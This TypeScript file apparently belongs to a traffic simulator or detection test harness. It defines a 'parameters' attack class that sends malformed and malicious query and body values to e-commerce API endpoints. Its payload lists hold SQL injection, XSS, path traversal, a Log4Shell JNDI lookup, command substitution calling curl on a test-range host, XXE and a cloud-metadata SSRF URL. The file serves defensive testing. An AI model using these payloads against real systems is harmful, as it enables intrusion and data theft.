import type { Actor } from '../actor.ts'
import type { AttackClass, Played, Stage } from './stage.ts'

const injections = {
  dev: [
    "' OR '1'='1",
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '1; DROP TABLE orders--',
    '${jndi:ldap://198.18.7.7/a}',
    '{{7*7}}',
    '$(curl 198.18.7.7)',
  ],
  acceptance: [
    "x') UNION SELECT email,hash FROM accounts--",
    '"><img src=x onerror=fetch(`//198.19.3.3`)>',
    '..%2f..%2f..%2fproc/self/environ',
    '`id`',
    "admin'/*",
    '*)(uid=*))(|(uid=*',
    '{"$gt":""}',
    '%00.jpg',
    '<!ENTITY x SYSTEM "file:///etc/hosts">',
    'http://169.254.169.254/latest/meta-data/',
  ],
} as const

/** Free text in the query, which no schema of the gateway looks at. */
const texts = [
  ['search GET /search', 'q'],
  ['search GET /search/suggestions', 'q'],
  ['search GET /search/facets', 'q'],
  ['search GET /search/images', 'imageUrl'],
  ['search GET /search/by-sku', 'sku'],
  ['notifications GET /messages/find', 'text'],
] as const
/** Whole numbers in the query. */
const numbers = [
  ['search GET /search', 'page'],
  ['catalogue GET /products', 'page'],
  ['orders GET /orders', 'limit'],
  ['payments GET /payments', 'page'],
  ['notifications GET /messages/all', 'size'],
  ['search GET /search/history', 'limit'],
  ['catalogue GET /categories/{categoryId}/products', 'limit'],
] as const
/** Text in a body whose schema lets it through. */
const bodies = [
  ['shipping POST /shipments/{shipmentId}/complaints', 'text'],
  ['orders POST /orders/{orderId}/notes', 'text'],
  ['orders POST /orders/{orderId}/messages', 'text'],
  ['carts POST /carts/{cartId}/notes', 'text'],
  ['catalogue POST /products/{productId}/reviews', 'text'],
] as const

function tries(stage: Stage, one: (actor: Actor, n: number) => readonly [operation: string, sending: Played]): void {
  const count = stage.between({ dev: [5, 12], acceptance: [3, 20] })
  let timeMs = stage.begin(count * 60_000)
  const actor = stage.actor(timeMs)
  for (let n = 0; n < count; n++) {
    timeMs += Math.floor(stage.random.around(9_000, 0.8)) + 200
    const [operation, sending] = one(actor, n)
    stage.send(timeMs, actor, operation, sending)
  }
}

function payload(stage: Stage): string {
  const list = injections[stage.acceptance ? 'acceptance' : 'dev']
  return stage.random.pick<string>(list)
}

/** Known operations, called by whoever may, with values that are none. */
export const parameters: AttackClass = {
  name: 'parameters',
  variants: {
    injection(stage) {
      tries(stage, () => {
        const [operation, name] = stage.random.pick(texts)
        const word = stage.random.chance(0.5) ? 'kettle' : ''
        return [operation, { bend: { query: { [name]: word + payload(stage) } } }]
      })
    },
    'injection-body'(stage) {
      tries(stage, () => {
        const [operation, name] = stage.random.pick(bodies)
        const text = payload(stage)
        return [operation, { bend: { body: usual => ({ ...(usual as object), [name]: text }) } }]
      })
    },
    type(stage) {
      tries(stage, () => {
        const [operation, name] = stage.random.pick(numbers)
        return [
          operation,
          { bend: { query: { [name]: stage.random.pick(['NaN', '1e9', 'null', '[]', 'true', '0x41', "1'"]) } } },
        ]
      })
    },
    range(stage) {
      tries(stage, () => {
        const [operation, name] = stage.random.pick(numbers)
        const value = stage.random.pick([
          '-1',
          String(stage.between({ dev: [100_000, 9_999_999], acceptance: [5_000, 99_999_999] })),
          '2147483648',
        ])
        return [operation, { bend: { query: { [name]: value } } }]
      })
    },
    overlong(stage) {
      const length = stage.between({ dev: [600, 2_000], acceptance: [300, 6_000] })
      tries(stage, () => {
        const [operation, name] = stage.random.pick(texts)
        return [
          operation,
          { bend: { query: { [name]: stage.random.pick(['A', 'é', '%s', '../']).repeat(length).slice(0, length) } } },
        ]
      })
    },
  },
}
